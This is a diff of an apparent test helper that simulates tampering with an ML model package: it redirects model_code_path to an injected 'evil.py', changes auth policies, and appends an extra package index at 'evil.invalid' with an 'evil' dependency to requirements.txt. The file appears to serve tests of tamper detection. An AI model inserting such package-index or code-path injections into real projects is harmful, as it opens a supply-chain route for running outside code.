@@ -87,17 +87,12 @@ def edit(model):
         content["auth_policy"] = {"system_auth_policy": {"resources": {}}, "user_auth_policy": user}
         mlmodel.write_text(yaml.safe_dump(content))
     def code():
-        append(model / "evil.py", "print('evil')")
+        append(model / "evil.py", (model / "agent.py").read_text() + "\nprint('evil')\n")
         content = yaml.safe_load(mlmodel.read_text())
         content["flavors"]["python_function"]["model_code_path"] = "evil.py"
         mlmodel.write_text(yaml.safe_dump(content))
-    def loader():
-        content = yaml.safe_load(mlmodel.read_text())
-        content["flavors"]["python_function"]["loader_module"] = "evil"
-        content["flavors"]["evil"] = {"code": "code"}
-        mlmodel.write_text(yaml.safe_dump(content))
     edits = {
-        "resources": resources, "scopes": scopes, "code": code, "loader": loader,
+        "resources": resources, "scopes": scopes, "code": code,
         "requirements": lambda: append(
             model / "requirements.txt", "\n--extra-index-url https://evil.invalid\nevil==1\n"
         ),
@@ -133,7 +128,7 @@ KINDS = {
     "resources": ["resources"],
     "scopes": ["scopes"],
     "other code": ["code"],
-    "files": ["requirements", "conda", "python", "more files", "more folders", "loader"],
+    "files": ["requirements", "conda", "python", "more files", "more folders"],
 }
 
 
@@ -172,9 +167,6 @@ SHAPES = {
         os.rename(model / "agent.py", scratch() / "home/agent.py"),
         os.symlink(scratch() / "home/agent.py", model / "agent.py"),
     )""",
-    "socket": """__import__("socket").socket(
-        __import__("socket").AF_UNIX
-    ).bind(os.path.relpath(model / "socket"))""",
 }
 
 
